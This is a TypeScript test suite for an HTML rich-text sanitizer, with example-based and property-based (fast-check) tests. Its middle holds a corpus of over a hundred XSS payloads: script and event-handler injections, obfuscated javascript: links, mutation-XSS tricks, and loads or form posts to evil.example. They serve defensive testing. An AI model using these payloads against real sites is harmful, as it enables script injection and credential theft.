import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { richTextLength, richTextToPlain, sanitizeRichText } from './sanitize.ts'

const REL = 'rel="noopener noreferrer nofollow"'

describe('sanitizeRichText', () => {
  test.each([
    [
      '<p>Ten <strong>boxes</strong> of <em>tips</em></p>',
      '<p>Ten <strong>boxes</strong> of <em>tips</em></p>',
    ],
    ['<b>a</b> <i>b</i>', '<strong>a</strong> <em>b</em>'],
    ['<p>a<br>b</p>', '<p>a<br />b</p>'],
    [
      '<ul><li><p>a</p></li></ul><ol start="3"><li>b</li></ol>',
      '<ul><li><p>a</p></li></ul><ol><li>b</li></ol>',
    ],
    ['<p class="x" style="color:red" id="y">a</p>', '<p>a</p>'],
    ['<h1>Title</h1><table><tr><td>cell</td></tr></table>', 'Titlecell'],
    ['plain text', 'plain text'],
    ['a<script>gone</script><style>gone</style><textarea>gone</textarea><svg><text>gone</text></svg>b', 'ab'],
    [
      'a<noscript>gone</noscript><template>gone</template><title>gone</title><select><option>gone</select>b',
      'ab',
    ],
    ['a < b & c > d', 'a &lt; b &amp; c &gt; d'],
    ['&amp;lt;b&amp;gt;', '&amp;lt;b&amp;gt;'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: text that must stay as it is
    ['{{7*7}} ${7*7} %s%n', '{{7*7}} ${7*7} %s%n'],
    ['<p>unclosed <strong>bold', '<p>unclosed <strong>bold</strong></p>'],
    ['<p>caf\u00e9 \u{1f9ea} \u202eabc</p>', '<p>caf\u00e9 \u{1f9ea} \u202eabc</p>'],
    ['<p>a\0b\u0007c\ud800</p>', '<p>abc\ufffd</p>'],
    ['<p>a&#7;b</p>', '<p>ab</p>'],
    ['<p><button><p>x</p></button></p>', '<p></p><p>x</p><p></p>'],
  ])('%j gives %j', (html, safe) => {
    expect(sanitizeRichText(html)).toBe(safe)
  })

  test.each([
    '',
    ' ',
    '<p></p>',
    '<p> </p><p><br></p>',
    '<p>&nbsp;</p>',
    '<ul><li><p></p></li></ul>',
    '<p>\u200b\ufeff</p>',
    '<strong></strong>',
    '<a href="https://lab.nl"></a>',
    '<img src="x">',
    '<script>x</script>',
    '<!-- x -->',
  ])('%j is nothing', (html) => {
    expect(sanitizeRichText(html)).toBe('')
  })

  test.each([
    ['https://lab.nl/a?b=1&c=2#d', 'https://lab.nl/a?b=1&amp;c=2#d'],
    ['http://lab.nl', 'http://lab.nl/'],
    [' HTTPS://LAB.NL/A ', 'https://lab.nl/A'],
    ['https://b\u00fccher.example/\u00fc', 'https://xn--bcher-kva.example/%C3%BC'],
    ['mailto:ann@lab.nl?subject=tips', 'mailto:ann@lab.nl?subject=tips'],
  ])('a link to %j goes to %s', (typed, href) => {
    expect(sanitizeRichText(`<a href="${typed}" target="_blank" rel="opener">x</a>`)).toBe(
      `<a href="${href}" ${REL}>x</a>`,
    )
  })

  test.each([
    '',
    '/listings',
    '//evil.example',
    '\\\\evil.example',
    '#top',
    '?a=1',
    'lab.nl',
    'ftp://lab.nl',
    'tel:112',
    'data:text/html,x',
    'blob:https://lab.nl/x',
    'file:///etc/passwd',
    'about:blank',
    'https://',
    `https://lab.nl/${'x'.repeat(2000)}`,
    `https://lab.nl/${'\u2602'.repeat(300)}`,
  ])('a link to %j is only text', (href) => {
    expect(sanitizeRichText(`<p><a href="${href}">x</a></p>`)).toBe('<p>x</p>')
  })

  test('a link without text is dropped, as nobody can follow it', () => {
    expect(sanitizeRichText('<p>x<a href="https://lab.nl"><img src=y> </a></p>')).toBe('<p>x</p>')
  })

  test('keeps depth and time in bounds', () => {
    expect(sanitizeRichText(`${'<ul><li>'.repeat(5000)}x`).match(/<ul>/g)?.length).toBeLessThanOrEqual(15)
    expect(sanitizeRichText('<a href="https://lab.nl">'.repeat(2000))).toBe('')
  })
})

// Written for this test. Every one of them runs, loads or hides something in a page that trusts it.
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<scr<script>x</script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<script><!--<script></script>alert(1)--></script>',
  '<sc\0ript>alert(1)</sc\0ript>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a 1x">',
  '<image src=x onerror=alert(1)>',
  '<p onclick=alert(1)>x</p>',
  '<p/onmouseover=alert(1)>x</p>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<strong onfocus=alert(1) tabindex=0 autofocus>x</strong>',
  '<br onload=alert(1)>',
  '<li style="list-style:url(javascript:alert(1))">x</li>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#x61;vascript&#58;alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="javascript&NewLine;:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="jar:https://evil.example!/x">x</a>',
  '<a href="intent://x#Intent;end">x</a>',
  '<a href="https://x" onclick="alert(1)">x</a>',
  '<a href="https://x"onclick="alert(1)">x</a>',
  '<a href="https://x" href="javascript:alert(1)">x</a>',
  '<a href="javascript:alert(1)" href="https://x">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="https://x/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<a href=\'https://x/" onmouseover="alert(1)\'>x</a>',
  '<a href="mailto:a@b.nl&quot;><script>alert(1)</script>">x</a>',
  '<a href="mailto:<script>alert(1)</script>">x</a>',
  '<a href=https://x/`onmouseover=alert(1)>x</a>',
  '<a href="https://x" target="_blank">x</a>',
  '<a href="https://x" ping="https://evil.example">x</a>',
  '<a href="https://x" style="position:fixed;inset:0">x</a>',
  '<a name="body" id="document">x</a>',
  '<a href="https://x" rel="&quot;><img src=x onerror=alert(1)>">x</a>',
  '<a <script>alert(1)</script> href="https://x">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script xlink:href="https://evil.example/x"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
  '<svg><set attributeName=onload to=alert(1)></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<svg><desc><p><style><!--</style><img src=x onerror=alert(1)>--></style></desc></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<xmp></xmp/><script>alert(1)</script>',
  '<textarea></textarea/><img src=x onerror=alert(1)>',
  '<textarea><script>alert(1)</script>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p><noscript></p><img src=x onerror=alert(1)></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><svg onload=alert(1)>">',
  '<plaintext><script>alert(1)</script>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<iframe><iframe><script>alert(1)</script>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<slot onslotchange=alert(1)>x</slot>',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select><style><img src=x onerror=alert(1)></style></select>',
  '<select><option><script>alert(1)</script></option></select>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<html><head><base href="https://evil.example/"></head><body>x</body></html>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><p title="</style><img src=x onerror=alert(1)>">',
  '<div style="width:expression(alert(1))">x</div>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!---><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '<?php echo 1 ?><img src=x onerror=alert(1)>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<%<img src=x onerror=alert(1)>%>',
  '</p><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<x onclick=alert(1)>x</x>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<custom-element is="script">x</custom-element>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&lt;<script>alert(1)</script>img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&LT;script&GT;alert(1)&LT;/script&GT;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<p title="<script>alert(1)</script>">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
  '<b <img src=x onerror=alert(1)>>x</b>',
  '<strong><p><strong><p><table><a href="https://x"><table><script>alert(1)</script>',
  '<a href="https://x"><a href="https://y"><b><a href="javascript:alert(1)">x',
  '<__proto__ onclick=alert(1)><constructor>x</constructor></__proto__>',
  '<p __proto__="x" constructor="y" hasOwnProperty="z">x</p>',
  '\ud83d<script>alert(1)</script>\ude00',
  '\u2028<script>alert(1)</script>\u2029',
]

const SAFE =
  /^(?:[^<>]|<\/?(?:p|strong|em|ul|ol|li)>|<br \/>|<a href="(?:https?:\/\/|mailto:)[^"<>]*" rel="noopener noreferrer nofollow">|<\/a>)*$/

describe('hostile rich text', () => {
  test('the corpus is large enough to mean something', () => {
    expect(new Set(ATTACKS).size).toBeGreaterThanOrEqual(120)
  })

  test.each(ATTACKS)('%j', (html) => {
    expectSafe(html)
    expectSafe(`<p>before <strong>${html}</strong> after</p>`)
    expectSafe(`<ul><li>${html}`)
  })

  test('5,000 mutations of it', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom(
        ...'<>"\'&;/=`! \n\0'.split(''),
        '<p>',
        '</p>',
        '<a href="',
        '<!--',
        '-->',
        '</',
        '<b',
        '&lt;',
        '&#',
        ']]>',
      ),
      fc.string({ unit: 'binary', maxLength: 6 }),
    )
    const cut = fc
      .tuple(fc.constantFrom(...ATTACKS), fc.nat(60), fc.nat(8), piece)
      .map(([html, at, gone, put]) => html.slice(0, at) + put + html.slice(at + gone))
    const mix = fc
      .array(fc.oneof(piece, cut), { minLength: 1, maxLength: 8 })
      .map((pieces) => pieces.join(''))
    fc.assert(fc.property(mix, expectSafe), { numRuns: 5000 })
  })

  test('any nesting of tags, kept or not', () => {
    const names = [
      'p',
      'b',
      'strong',
      'em',
      'ul',
      'ol',
      'li',
      'a',
      'br',
      'div',
      'button',
      'table',
      'td',
      'svg',
      'h1',
      'select',
      'option',
      'iframe',
      'noscript',
    ]
    const tag = fc
      .tuple(fc.constantFrom('<', '</'), fc.constantFrom(...names))
      .map(([open, name]) => (name === 'a' && open === '<' ? '<a href="https://lab.nl">' : `${open}${name}>`))
    const soup = fc.array(fc.oneof(tag, fc.constant('x')), { maxLength: 40 }).map((pieces) => pieces.join(''))
    fc.assert(fc.property(soup, expectSafe), { numRuns: 3000 })
  })

  test('any address in a link', () => {
    const href = fc.oneof(
      fc.webUrl({ withFragments: true, withQueryParameters: true }),
      fc.string({ unit: 'binary' }).map((text) => `mailto:${text}`),
      fc.string({ unit: 'binary' }).map((text) => `https:${text}`),
      fc.string({ unit: 'binary' }),
    )
    const link = href.map(
      (text) => `<a href="${text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}">x</a>`,
    )
    fc.assert(fc.property(link, expectSafe), { numRuns: 3000 })
  })
})

describe('richTextToPlain', () => {
  test.each([
    ['', ''],
    ['<p>Ten boxes</p><p>of tips</p>', 'Ten boxes\n\nof tips'],
    ['<p>a<br />b</p>', 'a\nb'],
    ['<p>a</p><p></p><p></p><p>b</p>', 'a\n\nb'],
    [
      '<p>Bring:</p><ul><li><p>ice</p></li><li>gloves</li></ul><p>Thanks</p>',
      'Bring:\n\n- ice\n- gloves\n\nThanks',
    ],
    ['<p>a\n  b\u00a0c</p>', 'a b c'],
    [`<p>See <a href="https://lab.nl/" ${REL}>our <em>site</em></a>.</p>`, 'See our site.'],
    ['<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 &amp;lt;</p>', '1 < 2 && 3 > 2 &lt;'],
  ])('%j reads %j', (html, plain) => {
    expect(richTextToPlain(html)).toBe(plain)
  })

  test('gives back any text that was put in', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (typed) => {
        const text = typed.replace(/\s+/g, ' ').trim()
        const html = `<p>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</p>`
        fc.pre(sanitizeRichText(html) !== '')
        expect(richTextToPlain(sanitizeRichText(html))).toBe(text)
      }),
    )
  })
})

describe('richTextLength', () => {
  test.each([
    ['', 0],
    ['<p>abc</p><p>d</p>', 4],
    ['<p>&lt;&amp;&gt;</p>', 3],
    ['<p>\u{1f9ea}</p>', 2],
    [`<p><a href="https://lab.nl/" ${REL}>x</a></p>`, 1],
    [`<p>${'x'.repeat(5000)}</p>`, 5000],
  ])('%j', (html, length) => {
    expect(richTextLength(html)).toBe(length)
  })
})

/** Nothing outside the grammar of kept tags, every tag closed in order, and the same when sanitised again. */
function expectSafe(html: string): void {
  const safe = sanitizeRichText(html)
  expect(safe).toMatch(SAFE)
  expect(unclosed(safe)).toEqual([])
  expect(sanitizeRichText(safe)).toBe(safe)
}

function unclosed(html: string): string[] {
  const open: string[] = []
  for (const [, slash, name = ''] of html.matchAll(/<(\/?)([a-z]+)[^>]*>/g)) {
    if (name === 'br') continue
    if (!slash) open.push(name)
    else if (open.pop() !== name) return ['crossed']
  }
  return open
}
